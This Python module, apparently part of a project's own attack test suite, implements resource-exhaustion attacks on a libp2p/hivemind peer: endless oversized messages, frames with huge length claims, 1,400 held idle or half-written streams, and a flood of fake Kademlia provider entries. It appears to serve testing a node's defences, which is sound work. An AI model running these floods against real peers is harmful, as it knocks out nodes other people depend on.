"""Attacks with streams that say nothing, or never come to an end.

Knows how fast and how many; what they do to whom is the harness's to find out.
"""

import asyncio
import time
from contextlib import suppress

from protocols import versions
from protocols.adapters.libp2p.pipe import Pipe
from tests.attacks import wire
from tests.attacks.attackers import Attacker
from tests.attacks.pace import rounds

IDLE_STREAMS = 1_400
STREAMS_PER_SECOND = 311
"""1,400 streams in 4.5 s: as fast as one peer opened them to plain hivemind."""
BATCH = STREAMS_PER_SECOND // 10
"""Streams opened at once, ten times a second."""
HELD_SECONDS = 9.0
"""How long all of them are held at least, where the machine was slow to open them."""
GIVE_UP_SECONDS = 60.0
"""When the victim lets nobody open so many."""
MEBIBYTE = 1 << 20
PLAIN_STREAM = "ConnectionHandler.rpc_forward_stream"
TENSORS = "/attacks/tensors/1"
KADEMLIA = "/ipfs/kad/1.0.0"
ENTRIES = 1_000
"""In one go."""
STREAMS = (versions.ASK, versions.INFO, PLAIN_STREAM)


async def endless_message(attacker: Attacker, until: float) -> None:
    """A message of 50 GiB, of which 300 MiB come; the same for our frames."""
    piece = bytes(MEBIBYTE)
    async for _ in rounds(until):
        if (pipe := await attacker.open(PLAIN_STREAM)) is not None:
            await pour(pipe, wire.stream_claim(50 << 30), piece, 300)
        for protocol in (versions.ASK, versions.INFO, TENSORS):
            for claim in ((2**32 - 1, 2**32 - 1), (512 * 1024, 0), (0, 8 << 20)):
                await attacker.pour(protocol, wire.frame_claim(*claim) + piece, 8)


async def pour(pipe: Pipe, claim: bytes, piece: bytes, pieces: int) -> None:
    """A message that never ends; it is let go when the victim has taken what was sent."""
    try:
        async with asyncio.timeout(30.0):
            await pipe.send(claim)
            for _ in range(pieces):
                await pipe.send(piece)
            await asyncio.sleep(2.0)
    except (OSError, TimeoutError):
        pass
    finally:
        pipe.abort()


async def idle_streams(attacker: Attacker, until: float) -> None:
    """1,400 streams on which nothing is said; what the victim closes is opened again."""
    await hold_streams(attacker, until, b"")


async def half_questions(attacker: Attacker, until: float) -> None:
    """The same, with half a megabyte of an unfinished question in each."""
    await hold_streams(attacker, until, wire.frame_claim(512 * 1024, 0) + bytes(510 * 1024))


async def hold_streams(attacker: Attacker, until: float, opening: bytes) -> None:
    """Keep 1,400 streams, of the protocols that the victim speaks, begun with `opening`."""
    protocols = [name for name in STREAMS if (await attacker.open(name)) is not None] or STREAMS
    pipes: list[Pipe] = []
    tried, seconds, give_up = 0, until - time.monotonic(), time.monotonic() + GIVE_UP_SECONDS
    try:
        while (now := time.monotonic()) < until or (tried < IDLE_STREAMS and now < give_up):
            began = time.monotonic()
            pipes = [pipe for pipe in pipes if not has_ended(pipe)]
            attacker.held = max(attacker.held, len(pipes))
            wanted = min(IDLE_STREAMS - len(pipes), BATCH)
            protocol = protocols[tried // BATCH % len(protocols)]
            opened = await asyncio.gather(*(attacker.open(protocol) for _ in range(wanted)))
            tried += wanted
            if tried - wanted < IDLE_STREAMS <= tried:
                until = max(until, time.monotonic() + min(seconds, HELD_SECONDS))
            fresh = [pipe for pipe in opened if pipe is not None]
            pipes += fresh
            if opening:
                await asyncio.gather(*(say_half(pipe, opening) for pipe in fresh))
            await asyncio.sleep(max(0.0, began + 0.1 - time.monotonic()))
    finally:
        for pipe in pipes:
            pipe.abort()


def has_ended(pipe: Pipe) -> bool:
    """Whether the victim let go of a stream."""
    return pipe.is_closing or pipe._has_ended


async def say_half(pipe: Pipe, opening: bytes) -> None:
    """Begin a message, if the victim reads at all."""
    try:
        async with asyncio.timeout(1.0):
            await pipe.send(opening)
    except (OSError, TimeoutError):
        pipe.abort()


async def inner_table(attacker: Attacker, until: float) -> None:
    """Entries without end for the table that p2pd itself keeps, which asks nobody's leave."""
    peer = attacker.peer_bytes
    where = bytes.fromhex("047f000001060fa1")  # /ip4/127.0.0.1/tcp/4001
    async for number in rounds(until, pause=0.0):
        pipe = await attacker.open(KADEMLIA)
        if pipe is None:
            continue
        entries = (
            wire.inner_provider(number * ENTRIES + index, peer, where) for index in range(ENTRIES)
        )
        with suppress(OSError, TimeoutError):
            async with asyncio.timeout(GIVE_UP_SECONDS):
                await pipe.send(b"".join(entries))
                attacker.sent += ENTRIES
        pipe.close()
